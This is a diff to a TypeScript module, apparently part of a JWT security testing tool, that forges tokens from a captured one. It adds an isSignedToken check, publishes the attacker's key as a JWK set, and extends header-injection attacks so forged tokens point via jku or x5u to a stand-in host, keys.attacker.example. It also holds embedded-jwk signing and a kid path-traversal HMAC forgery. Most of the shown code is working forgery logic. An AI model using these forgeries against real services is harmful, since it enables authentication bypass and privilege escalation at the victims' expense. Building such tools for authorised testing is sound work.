@@ -10,19 +10,25 @@ export interface Loot {
 
 type Members = Record<string, unknown>
 
-function members(part: string | undefined): Members {
+function objectOf(part: string | undefined): Members | undefined {
   try {
     const value: unknown = JSON.parse(partText(part ?? ''))
-    return typeof value === 'object' && value !== null ? (value as Members) : {}
+    return typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Members) : undefined
   } catch {
-    return {}
+    return undefined
   }
 }
 
 /** The token's header and payload as objects; empty where it has none that can be read. */
 export function readToken(token: string): { header: Members; payload: Members } {
   const [header, payload] = token.trim().split('.')
-  return { header: members(header), payload: members(payload) }
+  return { header: objectOf(header) ?? {}, payload: objectOf(payload) ?? {} }
+}
+
+/** Is this a signed token in compact form, with a header and claims that an attacker can copy? */
+export function isSignedToken(token: string): boolean {
+  const [header, payload, ...rest] = token.trim().split('.')
+  return objectOf(header) !== undefined && objectOf(payload) !== undefined && rest.length === 1
 }
 
 /** The claims with the one that makes the attack worthwhile. */
@@ -46,6 +52,9 @@ export const attackerPublicJwk = {
   alg: 'RS256',
   use: 'sig',
 }
+
+/** The same as a set, as the attacker would serve it (RFC 7517 §5). */
+export const attackersSet = JSON.stringify({ keys: [attackerPublicJwk] })
 
 async function withAttackersKey(input: string): Promise<string> {
   const algorithm = { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }
@@ -72,10 +81,20 @@ export const embedded = async ({ token }: Loot): Promise<string> => {
   return withAttackersKey(unsigned({ alg: 'RS256', typ: 'JWT', jwk: { kty, n, e } }, promoted(token)))
 }
 
-/** Signed with the attacker's key, which the header says where to find. */
-export const ATTACKERS_ADDRESS = 'https://keys.attacker.example/jwks.json'
-export const pointedElsewhere = async ({ token }: Loot): Promise<string> =>
-  withAttackersKey(unsigned({ ...readToken(token).header, alg: 'RS256', jku: ATTACKERS_ADDRESS }, promoted(token)))
+/** Where the attacker's key set (jku) or certificate (x5u) lies; nothing is fetched from there. */
+export const ATTACKERS_ADDRESS = {
+  jku: 'https://keys.attacker.example/jwks.json',
+  x5u: 'https://keys.attacker.example/chain.pem',
+}
+
+/** Signed with the attacker's key, which the header says where to find (RFC 7515 §4.1.2, §4.1.5). */
+export const pointedElsewhere =
+  (member: keyof typeof ATTACKERS_ADDRESS) =>
+  async ({ token }: Loot): Promise<string> => {
+    const { jku: _, x5u: __, ...header } = readToken(token).header
+    const moved = { ...header, alg: 'RS256', [member]: ATTACKERS_ADDRESS[member] }
+    return withAttackersKey(unsigned(moved, promoted(token)))
+  }
 
 /** HMAC with the content of a file that everybody knows, named by kid. */
 export const traversed = async ({ token }: Loot): Promise<string> =>
